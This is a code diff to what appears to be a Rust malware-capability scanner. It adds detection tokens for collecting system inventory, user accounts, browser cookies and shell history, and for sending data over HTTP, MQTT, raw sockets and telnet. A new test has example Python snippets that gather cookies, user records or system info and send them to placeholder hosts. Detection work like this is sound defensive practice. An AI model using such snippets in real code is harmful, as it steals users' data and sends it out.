@@ -23,8 +23,8 @@ const WINDOW: usize = 700;
 /// Most spans reported per kind.
 const MAX_SPANS: usize = 4;
 
-const COLLECT: u32 = 1; // keystrokes, screen, clipboard, fingerprint, key files
-const NET: u32 = 1 << 1; // sends over the network
+const COLLECT: u32 = 1; // keystrokes, screen, clipboard, host inventory, users, cookies, key files
+const NET: u32 = 1 << 1; // sends over the network (HTTP, raw sockets, mail, message brokers)
 const WALK: u32 = 1 << 2; // walks the file system
 const ENCRYPT: u32 = 1 << 3; // encrypts data
 const DELETE: u32 = 1 << 4; // deletes or overwrites
@@ -73,6 +73,20 @@ const TOKENS: &[(&str, u32)] = &[
     ("getpass.getuser", COLLECT),
     ("uuid.getnode", COLLECT),
     ("psutil.", COLLECT),
+    ("driverquery", COLLECT),
+    ("systeminfo", COLLECT),
+    ("wmic ", COLLECT),
+    ("os.uname", COLLECT),
+    ("os.getlogin", COLLECT),
+    ("pwd.getpw", COLLECT),
+    ("cookiejar", COLLECT),
+    ("browser_cookie3", COLLECT),
+    ("cookies.sqlite", COLLECT),
+    ("bash_history", COLLECT),
+    ("getmac", COLLECT),
+    ("netifaces", COLLECT),
+    ("win32clipboard", COLLECT),
+    ("dmidecode", COLLECT),
     ("os.environ", COLLECT),
     ("process.env", COLLECT),
     ("/etc/passwd", COLLECT),
@@ -86,6 +100,13 @@ const TOKENS: &[(&str, u32)] = &[
     ("pcap", COLLECT),
     ("net_connections", COLLECT),
     ("requests.post", NET),
+    ("requests.request(", NET),
+    ("requests.patch", NET),
+    ("paho.mqtt", NET),
+    ("publish.single(", NET),
+    ("axios.post", NET),
+    ("socket.create_connection", NET),
+    ("telnetlib", NET),
     ("requests.put", NET),
     ("urllib.request", NET),
     ("urlopen(", NET),
@@ -471,6 +492,27 @@ mod tests {
         let r =
             "for root, dirs, files in os.walk(home):\n    data = f.encrypt(open(p,'rb').read())";
         assert!(!caps(r).get(Capability::Destroys).is_empty());
+    }
+
+    #[test]
+    fn host_inventory_sent_over_any_transport_exfiltrates() {
+        // A system command's report, a user database, a browser's cookies: each is collected,
+        // and a broker publish, a raw connection or a generic request sends it.
+        for k in [
+            "info = subprocess.check_output(\"systeminfo\").decode()\nrequests.request(\"POST\", URL, data=info)",
+            "import paho.mqtt.publish as publish\nimport psutil\npublish.single('m', json.dumps(psutil.virtual_memory()._asdict()), hostname=H)",
+            "users = pwd.getpwall()\ns = socket.create_connection((HOST, 9000))\ns.sendall(repr(users).encode())",
+            "cj = browser_cookie3.chrome()\nt = telnetlib.Telnet(HOST)\nt.write(str(cj).encode())",
+        ] {
+            assert!(!caps(k).get(Capability::Exfiltrates).is_empty(), "{k}");
+        }
+        // Either half alone is ordinary: an inventory printed, a sensor reading published.
+        for t in [
+            "print(subprocess.check_output(\"systeminfo\").decode())",
+            "publish.single('garden/temp', str(read_sensor()), hostname='broker.local')",
+        ] {
+            assert!(caps(t).get(Capability::Exfiltrates).is_empty(), "{t}");
+        }
     }
 
     #[test]
